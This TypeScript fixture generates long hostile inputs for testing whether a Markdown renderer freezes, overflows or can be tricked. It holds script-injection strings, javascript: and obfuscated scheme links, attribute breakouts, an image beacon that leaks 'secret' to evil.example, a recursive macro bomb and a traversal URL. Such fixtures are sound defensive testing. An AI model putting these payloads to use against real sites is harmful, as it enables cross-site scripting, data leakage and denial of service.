/** Texts that could freeze, overflow or trick a Markdown renderer. */
export const hostileTexts: Readonly<Record<string, (length: number) => string>> = {
  'one word': fill('a'),
  'quote marks': fill('>'),
  'spaced quote marks': fill('> '),
  'quoted lines': fill('>a\n'),
  'lazy quotes': fill('> > > a\nb\n'),
  'open links': fill('[x]('),
  'nested links': fill('[a](b'),
  'open brackets': fill('['),
  'open images': fill('!['),
  'image beacons': fill('![a](https://evil.example/?q=secret) '),
  'angle links': fill('[a](<b'),
  'mail look-alikes': fill('a..a@'),
  underscores: fill('_a__'),
  'mixed emphasis': fill('*a_'),
  'open emphasis': fill('*a **b '),
  'open strong': fill('**a '),
  'open strike': fill('~~a'),
  'every mark': fill('*_[`'),
  'growing backticks': (length) =>
    cut(Array.from({ length: 500 }, (_, index) => `${'`'.repeat(index + 1)}a`).join(''), length),
  backticks: fill('`'),
  'uneven backticks': fill('`a``'),
  backslashes: fill('\\'),
  'list marks': fill('- '),
  'nested lists': (length) =>
    cut(Array.from({ length: 500 }, (_, index) => `${' '.repeat(index * 2)}- a\n`).join(''), length),
  'many items': fill('1) a\n'),
  'number marks': fill('1. '),
  'wide table': (length) => cut(`|${'a|'.repeat(length / 4)}\n|${'-|'.repeat(length / 4)}\n`, length),
  'long table': (length) => cut(`a|b\n-|-\n${'|\n'.repeat(length)}`, length),
  'open tags': fill('<a'),
  'open comments': fill('<!--'),
  'open cdata': fill('<![CDATA['),
  'open URLs': fill('<http://a'),
  addresses: fill('http://a'),
  schemes: fill('com://'),
  definitions: fill('[a]: b\n'),
  'many definitions': (length) =>
    cut(Array.from({ length: length / 12 }, (_, index) => `[${index}]: /b\n\n[${index}] `).join(''), length),
  setext: fill('a\n='),
  hashes: fill('# '),
  'line breaks': fill('\n'),
  spaces: fill(' '),
  tabs: fill('\t'),
  entities: fill('&amp'),
  scripts: fill('<script>alert(1)</script><img src=x onerror=alert(1)>\n'),
  dollars: fill('$'),
  'spaced dollars': fill('$a $'),
  'open formulas': fill('\\('),
  'closed too early': fill('\\(\\)'),
  'open displays': fill('\\[a\n'),
  'displays closed in a sentence': fill(`${'\\[a\n'.repeat(800)}\\]x\n`),
  'dollar lines': fill('$$\n'),
  'open dollar lines': fill('$$a\n'),
  'displays in quotes': fill('> $$\n> a\n'),
  'many formulas': fill('$a$ '),
  'links in formulas': fill('$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$\n\n'),
  'images in formulas': fill('$\\includegraphics{https://evil.example/x.png}$\n\n'),
  'macro bombs': fill('$\\def\\a{\\a\\a}\\a$\n\n'),
  'task marks': fill('- [ ] '),
  'foreign images as own': fill(
    '![x](/functions/v1/images/../../admin) ![y](//evil.example/functions/v1/images/x)\n',
  ),
  'diagrams with scripts': fill(
    '```mermaid\ngraph TD\nA-->B\nclick A "javascript:alert(1)"\n%%{init: {"securityLevel": "loose"}}%%\n```\n',
  ),
  'turned around': fill('\u202Eabc\u2066 [x](https://a.example)\n'),
  'script links': fill(
    '[x](javascript:alert(1)) [y](data:text/html,x) [z](vbscript:x) <javascript:alert(1)>\n',
  ),
  'broken schemes': fill('[x](java&#115;cript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](\u0001javascript:x)\n'),
  'attribute escapes': fill(
    '[x](https://a.example/"onmouseover="alert(1)) ![" onerror="alert(1)](https://a.example/x)\n',
  ),
};

function fill(piece: string): (length: number) => string {
  return (length) => cut(piece.repeat(Math.ceil(length / piece.length)), length);
}

function cut(text: string, length: number): string {
  return text.slice(0, length);
}
